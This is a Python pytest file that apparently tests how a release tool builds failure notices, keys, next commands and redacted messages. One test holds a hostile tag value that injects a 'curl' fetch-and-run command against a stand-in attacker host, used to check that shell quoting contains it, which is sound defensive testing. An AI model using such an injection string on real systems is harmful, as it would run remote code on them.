"""What a notice says, and when two of them are one."""

from __future__ import annotations

import shlex
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from release.errors import (
    BuildFailed,
    Conflict,
    GateRefused,
    GateUnavailable,
    Incomplete,
    Refused,
    ReleaseError,
    UsageError,
)
from release.model.ledger import State
from release.model.notice import Line, Notice, Tone, tell_of
from release.model.outcome import Ending, Outcome
from release.model.receipt import PublicationRecord, Receipt
from release.model.tag import Channel
from release.redaction import hide

THEN = datetime(2026, 1, 2, tzinfo=UTC)
FILES = ("alpha-0.1.0.tar.gz", "alpha-0.1.0-py3-none-any.whl")


def make_receipt(**locations: str) -> Receipt:
    """Make the receipt of a release that is at these places, a `{}` in them standing for a file's name."""
    return Receipt(
        package="alpha",
        version="0.1.0",
        tag="alpha/v0.1.0",
        commit="ab" * 20,
        channel=Channel.STABLE,
        artifacts=(),
        gates=(),
        publications=tuple(
            PublicationRecord(
                target=target, location=place.format(name), name=name, state=State.IDENTICAL, sha256="0" * 64
            )
            for target, place in locations.items()
            for name in FILES
        ),
        tool="wheelyard",
        started=THEN,
        finished=THEN,
    )


def make_notice(*lines: Line) -> Notice:
    """Make a notice of some lines."""
    return Notice(lines=lines, targets=("s3", "github"), by="ada", seconds=3.2, again="hatch run release run")


def told(error: ReleaseError) -> Line:
    """Give the line of a failure that is told."""
    line = tell_of(Outcome("alpha/v0.1.0", Ending.FAILED, error), "ab" * 20)
    assert line is not None
    return line


@pytest.mark.parametrize(
    ("error", "tone"),
    [
        (Refused, Tone.REFUSED),
        (BuildFailed, Tone.REFUSED),
        (GateRefused, Tone.REFUSED),
        (Conflict, Tone.REFUSED),
        (GateUnavailable, Tone.INCOMPLETE),
        (Incomplete, Tone.INCOMPLETE),
        (ReleaseError, Tone.INCOMPLETE),
    ],
)
def test_every_failure_has_its_tone(error: type[ReleaseError], tone: Tone) -> None:
    line = told(error("it went wrong", hint="mend it"))
    assert (line.tone, line.reason, line.hint) == (tone, "it went wrong", "mend it")


def test_wrong_words_are_not_told() -> None:
    assert tell_of(Outcome("alpha/v0.1.0", Ending.FAILED, UsageError("no such target"))) is None


def test_a_target_is_named_once_with_what_the_addresses_of_its_files_begin_with() -> None:
    receipt = make_receipt(s3="s3://wheels/stable/alpha/0.1.0/{}", codeartifact="acme/stable")
    line = tell_of(Outcome("alpha/v0.1.0", Ending.RELEASED, receipt=receipt), install="pip install alpha==0.1.0")
    assert line
    assert line.places == ("s3: s3://wheels/stable/alpha/0.1.0", "codeartifact: acme/stable")
    assert line.commit == "ab" * 20
    assert make_notice(line).next == ("pip install alpha==0.1.0",)


def test_the_same_ending_has_one_key_wherever_it_was_built_and_however_long_it_took() -> None:
    one, other = (
        told(BuildFailed(f"/tmp/wheelyard-{name}/repository: no answer after {seconds} s"))  # noqa: S108  # never opened
        for name, seconds in (("a1b2c3", "12.5"), ("xy_9", "300"))
    )
    assert one.reason != other.reason
    assert one.key == other.key
    assert make_notice(one).id == make_notice(other).id


def test_another_ending_has_another_key() -> None:
    moved = tell_of(Outcome("alpha/v0.1.0", Ending.FAILED, Refused("dirty")), "cd" * 20)
    assert moved
    lines = (told(Refused("dirty")), told(Refused("moved")), told(Incomplete("dirty")), moved)
    assert len({line.key for line in lines}) == len(lines)


def test_what_is_told_together_has_an_id_that_no_order_changes() -> None:
    one, other = told(Refused("dirty")), told(Refused("moved"))
    assert make_notice(one, other).id == make_notice(other, one).id != make_notice(one).id


def test_the_next_command_is_that_of_each_tone() -> None:
    notice = make_notice(told(Refused("dirty")), told(Incomplete("no answer")))
    assert notice.title == "alpha/v0.1.0 refused; alpha/v0.1.0 incomplete"
    assert notice.next == ("hatch run release run", "hatch run release plan alpha/v0.1.0")
    assert notice.story == "to s3, github, by ada, in 3 s"


def test_a_name_that_somebody_chose_is_one_word_of_the_next_command() -> None:
    hostile = "alpha/v1;curl${IFS}evil.example.com|sh"
    line = told(Refused("no version")).model_copy(update={"tag": hostile})
    (command,) = make_notice(line).next
    assert shlex.split(command, comments=True) == ["hatch", "run", "release", "plan", hostile]
    assert list(shlex.shlex(command, posix=True, punctuation_chars=True)) == shlex.split(command)


def test_many_tags_are_counted() -> None:
    line = told(Refused("dirty"))
    assert make_notice(*(line.model_copy(update={"tag": f"a{n}/v1"}) for n in range(3))).title == "3 releases refused"


@given(st.text())
def test_no_text_moves_others_or_has_no_end(text: str) -> None:
    reason = told(Refused(f"said: {text}{text * 200}")).reason
    assert len(reason) <= 701
    assert all(letter.isprintable() or letter == "\n" for letter in reason)


def test_a_secret_that_became_known_later_is_not_told() -> None:
    error = Incomplete("the token is a-token-of-a-later-hour", hint="a-token-of-a-later-hour")
    hide("a-token-of-a-later-hour")
    assert (told(error).reason, told(error).hint) == ("the token is ***", "***")
